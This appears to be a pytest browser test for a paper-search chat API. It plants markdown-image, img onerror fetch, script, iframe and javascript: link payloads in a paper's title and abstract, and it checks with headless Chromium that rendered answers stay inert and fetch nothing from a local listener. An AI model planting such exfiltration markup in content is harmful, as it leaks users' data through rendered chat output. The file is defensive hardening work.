"""Planted Markdown and HTML in a paper stay inert in any Markdown client: the API's Markdown rendered by
CommonMark, GFM and a real headless Chromium (the rest of the hardening: integration/test_hardening.py)."""

from __future__ import annotations

import socket
import threading
import time

import pytest
from helpers import free_port, write_jsonl
from serving import KEY, serving


class _Listener:
    """A TCP listener on 127.0.0.1 that records every connection (a planted URL's target)."""

    def __init__(self) -> None:
        self.port = free_port()
        self.hits: list[bytes] = []
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", self.port))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self._stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(2048))
                except OSError:
                    self.hits.append(b"")

    def close(self) -> None:
        self._stop = True
        self.thread.join(2)
        self.sock.close()


def _planted(port: int) -> tuple[str, str]:
    leak = f"http://127.0.0.1:{port}"
    title = f"Warmup-free training ![x]({leak}/title-img?d=secret) <img src={leak}/title-html>"
    abstract = (
        f"We train transformers without warmup and report stable convergence. "
        f"See ![chart]({leak}/img?d=1) and <img src=x onerror=\"fetch('{leak}/onerror')\"> and "
        f"<script>fetch('{leak}/script')</script> and <iframe src=\"{leak}/iframe\"></iframe> and "
        f"[click me](javascript:fetch('{leak}/js')) and <{leak}/autolink> and www.example.com/{port} and "
        f"{leak}/bare and $x^2$ for details, which we state without warmup."
    )
    return title, abstract


def _markdown_renderings(text: str) -> dict[str, str]:
    """The API's content as chat clients render it: CommonMark with raw HTML off, with raw HTML on,
    and GFM-like with linkify (bare URLs and domains become links there)."""
    from markdown_it import MarkdownIt

    return {
        "commonmark-no-html": MarkdownIt("commonmark", {"html": False}).render(text),
        "commonmark-html": MarkdownIt("commonmark", {"html": True}).render(text),
        "gfm-like-linkify": MarkdownIt("gfm-like", {"html": True}).enable("linkify").render(text),
    }


@pytest.mark.browser
def test_planted_markdown_and_html_in_a_paper_are_inert_in_any_markdown_client(app, tmp_path):
    from playwright.sync_api import sync_playwright

    listener = _Listener()
    try:
        title, abstract = _planted(listener.port)
        app.ingest([write_jsonl(tmp_path / "planted.jsonl", [{"title": title, "abstract": abstract}])])
        app.settings = app.settings.model_copy(update={"llm_backend": "none", "api_keys": KEY})
        with serving(app) as served:
            client = served.client()
            ask = [{"role": "user", "content": "Which papers train without warmup?"}]
            whole = client.chat.completions.create(model="paperchat", messages=ask)
            streamed = "".join(c.choices[0].delta.content or "" for c in
                               client.chat.completions.create(model="paperchat", messages=ask, stream=True))
        extra = whole.model_extra["paperchat"]
        assert extra["citations"] and extra["citations"][0]["title"] == title  # the data stays verbatim
        for text in (whole.choices[0].message.content, streamed):
            assert "Warmup" in text
            pages = _markdown_renderings(text)
            with sync_playwright() as pw:
                browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
                page = browser.new_page()
                for name, html in pages.items():
                    page.set_content(f"<html><body>{html}</body></html>")
                    page.wait_for_timeout(300)
                    found = page.evaluate("""() => ({
                        imgs: document.querySelectorAll('img').length,
                        scripts: document.querySelectorAll('script').length,
                        iframes: document.querySelectorAll('iframe').length,
                        links: document.querySelectorAll('a').length,
                        text: document.body.innerText})""")
                    assert (found["imgs"], found["scripts"], found["iframes"], found["links"]) == (0, 0, 0, 0), name
                    # it renders as the text it quotes: the planted markup is shown, character for character
                    assert f"![x](http://127.0.0.1:{listener.port}/title-img?d=secret)" in found["text"], name
                browser.close()
        time.sleep(0.5)
        assert listener.hits == [], f"a rendered answer fetched {listener.hits!r}"
    finally:
        listener.close()
